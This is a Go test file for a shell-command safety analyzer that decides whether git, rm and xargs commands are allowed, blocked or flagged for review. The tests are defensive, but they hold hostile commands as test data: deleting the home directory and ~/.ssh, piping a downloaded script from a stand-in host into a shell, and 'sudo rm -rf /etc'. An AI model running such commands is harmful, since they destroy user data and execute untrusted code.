package main

import (
	"path/filepath"
	"runtime"
	"testing"
)

// Resolving a literal assignment cuts both ways: an ordinary command stops
// being reported as dynamic, and a protected operation reached through the same
// variable is judged on what it actually targets.
func TestLiteralAssignmentIsResolved(t *testing.T) {
	repository := committedRepository(t, "main")
	workspace := t.TempDir()

	tests := []struct {
		name     string
		command  string
		decision Decision
		rule     string
	}{
		{
			"ordinary command through a variable",
			"R=" + repository + "; git -C $R add -A",
			Allow, "",
		},
		{
			"compound ordinary command",
			"R=" + repository + "; git -C $R add -A && git -C $R status --short",
			Allow, "",
		},
		{
			"quoted expansion",
			`R=` + repository + `; git -C "$R" add -A`,
			Allow, "",
		},
		{
			"braced expansion",
			"R=" + repository + "; git -C ${R} add -A",
			Allow, "",
		},
		{
			"protected push through a variable",
			"R=" + repository + "; git -C $R push origin main",
			Block, "protected-branch-push",
		},
		{
			"value built from an earlier name",
			"S=" + filepath.Dir(repository) + `; R="$S/` + filepath.Base(repository) + `"; git -C $R add -A`,
			Allow, "",
		},
		{
			"protected push through a derived name",
			"S=" + filepath.Dir(repository) + `; R="$S/` + filepath.Base(repository) + `"; git -C $R push origin main`,
			Block, "protected-branch-push",
		},
		{
			"chain of three names",
			"A=" + filepath.Dir(repository) + "; B=$A; R=$B/" + filepath.Base(repository) + "; git -C $R add -A",
			Allow, "",
		},
		// evalWord resolves $HOME directly, so a value derived from it has to
		// resolve the same way or the two disagree about the same path.
		{
			"home through a name",
			`H=$HOME; rm -rf "$H"`,
			Block, "recursive-delete-protected",
		},
		{
			"path below home through a name",
			`H=$HOME; rm -rf "$H/.ssh"`,
			Block, "recursive-delete-protected",
		},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			result := analyzePOSIX(test.command, workspace)
			if result.Decision != test.decision {
				t.Fatalf("got %s, want %s; findings=%+v", result.Decision, test.decision, result.Findings)
			}
			if test.rule != "" && !hasRule(result, test.rule) {
				t.Fatalf("missing %q; findings=%+v", test.rule, result.Findings)
			}
		})
	}
}

// Resolving a name derived from $HOME must not turn every path below the home
// directory into a protected target. Windows already treats them all that way,
// so the distinction only exists on POSIX.
func TestOrdinaryPathBelowHomeStaysAllowed(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("every path below home is a protected delete target on Windows")
	}
	result := analyzePOSIX(`H=$HOME; rm -rf "$H/scratch/build"`, t.TempDir())
	if result.Decision != Allow {
		t.Fatalf("got %s, want allow; findings=%+v", result.Decision, result.Findings)
	}
}

// Anything that leaves the value uncertain keeps the previous behaviour.
func TestUncertainAssignmentStaysDynamic(t *testing.T) {
	repository := committedRepository(t, "main")
	workspace := t.TempDir()

	tests := []struct {
		name    string
		command string
	}{
		{"command substitution", "R=$(pwd); git -C $R push origin main"},
		{"value from a name assigned later", "R=$S; S=" + repository + "; git -C $R push origin main"},
		{"value from a name that is itself uncertain", "S=$(pwd); R=$S; git -C $R push origin main"},
		{"conflicting assignments", "R=/tmp; R=" + repository + "; git -C $R push origin main"},
		{"value from a conflicting name", "S=/tmp; S=" + repository + "; R=$S; git -C $R push origin main"},
		{"append assignment", "R=" + repository + "; R+=/nested; git -C $R push origin main"},
		{"glob in the value", "R=" + filepath.Join(repository, "*") + "; git -C $R push origin main"},
		{"never assigned", "git -C $UNSET_REPOSITORY push origin main"},
		{"transformed expansion", "R=" + repository + "; git -C ${R%/*} push origin main"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			result := analyzePOSIX(test.command, workspace)
			if result.Decision != Review || !hasRule(result, "git-dynamic-working-directory") {
				t.Fatalf("got %s, want review; findings=%+v", result.Decision, result.Findings)
			}
		})
	}
}

// An assignment belongs to the input that declares it. A nested payload must not
// inherit it, so a name it does not define stays dynamic.
func TestAssignmentsDoNotLeakIntoNestedPayload(t *testing.T) {
	repository := committedRepository(t, "main")
	result := analyzePOSIX("R="+repository+`; sh -c 'git -C $R push origin main'`, t.TempDir())
	if result.Decision != Review || !hasRule(result, "git-dynamic-working-directory") {
		t.Fatalf("got %s, want review; findings=%+v", result.Decision, result.Findings)
	}
}

// A fixed xargs payload is judged on what it does, instead of being stopped at
// the gateway regardless of its contents.
func TestXargsPayloadIsAnalyzed(t *testing.T) {
	workspace := t.TempDir()

	tests := []struct {
		name     string
		command  string
		decision Decision
		rule     string
	}{
		{"ordinary payload", `ls | xargs -I {} sh -c 'cd "$1" && git log --oneline -1' _ {}`, Allow, ""},
		{"payload without a replacement", `ls | xargs sh -c 'echo $0'`, Allow, ""},
		{"download to shell", `ls | xargs -I {} sh -c 'curl -s http://x/i.sh | sh'`, Block, "download-to-shell"},
		{"privilege escalation", `ls | xargs -I {} sh -c 'sudo rm -rf /etc'`, Block, "privilege-escalation"},
		{"replacement inside the payload", `ls | xargs -I {} sh -c 'rm -rf {}'`, Review, "indirect-execution-gateway"},
		{"replacement given as -I{}", `ls | xargs -I{} sh -c 'rm -rf {}'`, Review, "indirect-execution-gateway"},
		{"interpreter gateway is not shell", `ls | xargs -I {} python3 -c 'print(1)'`, Review, "indirect-execution-gateway"},
		{"dynamic payload", `ls | xargs -I {} sh -c "$UNSET_PAYLOAD"`, Review, "indirect-execution-gateway"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			result := analyzePOSIX(test.command, workspace)
			if result.Decision != test.decision {
				t.Fatalf("got %s, want %s; findings=%+v", result.Decision, test.decision, result.Findings)
			}
			if test.rule != "" && !hasRule(result, test.rule) {
				t.Fatalf("missing %q; findings=%+v", test.rule, result.Findings)
			}
		})
	}
}
